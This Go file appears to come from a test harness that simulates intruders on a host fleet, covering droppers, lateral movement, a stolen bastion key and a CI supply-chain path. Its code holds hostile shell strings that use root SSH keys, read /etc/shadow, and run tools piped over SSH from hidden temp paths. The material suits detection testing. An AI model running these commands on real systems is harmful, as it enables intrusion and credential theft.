package fleet

import (
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"

	"baize/test/intrusions/stage"
)

// plan is what an intruder does.
type plan struct {
	name string
	// service is the one that he comes in through, "" for a stolen key.
	service string
	play    func(ctx context.Context, a *actor) error
}

// plans of which a seed draws. Those of one service differ in technique.
var plans = []plan{
	{"dropper", web1, dropper(web1)},
	{"second", web1, dropper(web1)},
	{"lateral", web2, lateral},
	{"registry", web2, fromRegistry},
	{"contained", app1, dropper(app1)},
	{"neighbour", app1, dropper(app1)},
	{"keyholder", "", keyholder},
	{"supply", "", supply},
}

// least and most intruders at once.
const (
	least = 5
	most  = 7
)

// casting draws the intruders of the seed.
func (f *Fleet) casting(kit *stage.Kit) error {
	draw := &drawer{rng: f.rng, sources: slices.Clone(sources), drops: f.rng.Perm(len(drops)), c2s: f.rng.Perm(len(c2s))}
	free := map[string][]int{}
	for _, name := range services {
		free[name] = f.rng.Perm(len(techniques))
	}
	chosen := f.rng.Perm(len(plans))[:least+f.rng.IntN(most-least+1)]
	slices.Sort(chosen)
	for n, k := range chosen {
		p := &plans[k]
		a := &actor{
			name: p.name, plan: p, f: f, kit: kit, rng: rand.New(rand.NewPCG(f.seed, uint64(100+k))), tail: letters(f.rng, 8), on: map[string]*stage.Intruder{},
			how: techniques[f.rng.IntN(len(techniques))], hasty: f.rng.IntN(2) == 0,
		}
		if p.service != "" {
			a.how = techniques[free[p.service][0]]
			free[p.service] = free[p.service][1:]
		}
		// The first two come from behind the NAT, and about every second of the others.
		var err error
		if a.now, err = draw.kitbag(kit, n < 2 || f.rng.IntN(2) == 0); err != nil {
			return err
		}
		if a.next, err = draw.kitbag(kit, false); err != nil {
			return err
		}
		f.cast = append(f.cast, a)
	}
	return nil
}

// about tells who is at work.
func (f *Fleet) about() string {
	var list []string
	for _, a := range f.cast {
		list = append(list, a.name+" ("+a.how.name+")")
	}
	return strings.Join(list, ", ")
}

// drawer hands out what no two intruders share.
type drawer struct {
	rng        *rand.Rand
	sources    []string
	drops, c2s []int
	count      int
}

// directories in which tools are put.
var directories = []string{"/dev/shm/", "/tmp/", "/var/tmp/"}

// kitbag of fresh addresses, names and content.
func (d *drawer) kitbag(kit *stage.Kit, shared bool) (kitbag, error) {
	c2 := d.c2s[0]
	d.count++
	b := kitbag{
		source: nat, server: drops[d.drops[0]], c2: c2s[c2], download: fmt.Sprintf("file-%d", d.count),
		path: directories[d.rng.IntN(len(directories))] + "." + letters(d.rng, 5+d.rng.IntN(8)),
	}
	if d.rng.IntN(2) == 0 {
		b.server = domain(d.drops[0])
	}
	d.c2s, d.drops = d.c2s[1:], d.drops[1:]
	if !shared {
		b.source, d.sources = d.sources[0], d.sources[1:]
	}
	return b, kit.Variant(b.download, tool(c2))
}

// dropper brings a tool through a service, tries again, rotates, and comes back twice.
func dropper(host string) func(context.Context, *actor) error {
	return func(ctx context.Context, a *actor) error {
		if err := a.probe(ctx, host); err != nil {
			return err
		}
		for n := range 4 {
			var first []string
			if n == 2 {
				a.rotate()
				first = append(first, a.ask()) // is it still there?
			}
			if err := a.deliver(ctx, host, first...); err != nil {
				return err
			}
		}
		return nil
	}
}

// fromRegistry uses a program of the fleet's own registry as a tool, then his own.
func fromRegistry(ctx context.Context, a *actor) error {
	i := a.at(web2, a.now.source)
	known := kitbag{server: "registry.corp.example", download: "perl", path: "/tmp/." + letters(a.rng, 7)}
	if err := i.Inject(ctx, a.how.command(&known)); err != nil {
		return err
	}
	i.Brought(known.path)
	for n := range 3 {
		if n == 1 {
			a.rotate()
		}
		if err := a.deliver(ctx, web2); err != nil {
			return err
		}
	}
	return nil
}

// lateral goes through a service that runs as root, with a key that lies there, to
// the database, where the tool runs as well.
func lateral(ctx context.Context, a *actor) error {
	if err := a.deliver(ctx, web2); err != nil {
		return err
	}
	for n := range 2 {
		if n == 1 {
			a.rotate()
			if err := a.deliver(ctx, web2); err != nil {
				return err
			}
		}
		here, there := a.at(web2, a.now.source), a.at(db1, a.f.Hosts[web2].Address)
		path := directories[a.rng.IntN(len(directories))] + "." + letters(a.rng, 8)
		err := there.Through(ctx, func(ctx context.Context) error {
			return here.Inject(ctx, fmt.Sprintf("ssh -i /root/.ssh/id_ed25519 -F /root/.ssh/config root@%s '%s; cat /etc/shadow > /dev/null' < %s", there.Host.Address, receive(path), a.now.path))
		})
		if err != nil {
			return err
		}
		there.Brought(path)
		if err := a.breathe(ctx); err != nil {
			return err
		}
	}
	return nil
}

// receive takes a tool from a session's input and runs it.
func receive(path string) string {
	return fmt.Sprintf("cat > %s; chmod +x %s; %s", path, path, path)
}

// keyholder has a stolen key and goes through the bastion to the database, as
// administrators do.
func keyholder(ctx context.Context, a *actor) error {
	for n := range 3 {
		if n == 2 {
			a.rotate()
		}
		tool, err := a.kit.Implant(a.now.download)
		if err != nil {
			return err
		}
		here, there := a.at(bastion, a.now.source), a.at(db1, a.f.Hosts[bastion].Address)
		kept, path := "/var/tmp/."+letters(a.rng, 6), directories[a.rng.IntN(len(directories))]+"."+letters(a.rng, 9)
		err = there.Through(ctx, func(ctx context.Context) error {
			return here.SSH(ctx, "stolen", fmt.Sprintf("cat > %s; ssh -F /root/.ssh/config root@%s '%s; cat /etc/shadow > /dev/null' < %s", kept, there.Host.Address, receive(path), kept), tool)
		})
		if err != nil {
			return err
		}
		here.Brought(kept)
		there.Brought(path)
		if err := a.breathe(ctx); err != nil {
			return err
		}
	}
	return nil
}

// supply logs in to the host of the deploy tool and goes on with its key to the
// hosts that it reaches.
func supply(ctx context.Context, a *actor) error {
	here := a.at(ci1, a.now.source)
	for n, name := range []string{web1, web2} {
		if n == 1 {
			a.rotate()
			here = a.at(ci1, a.now.source)
		}
		if err := here.SSH(ctx, "stolen", a.how.command(&a.now), ""); err != nil {
			return err
		}
		here.Brought(a.now.path)
		here.Called(a.now.c2)
		there := a.at(name, here.Host.Address)
		path := directories[a.rng.IntN(len(directories))] + "." + letters(a.rng, 8)
		err := there.Through(ctx, func(ctx context.Context) error {
			return here.SSH(ctx, "stolen", fmt.Sprintf("ssh -F /root/.ssh/config root@%s '%s' < %s", there.Host.Address, receive(path), a.now.path), "")
		})
		if err != nil {
			return err
		}
		there.Brought(path)
		if err := a.breathe(ctx); err != nil {
			return err
		}
	}
	return nil
}
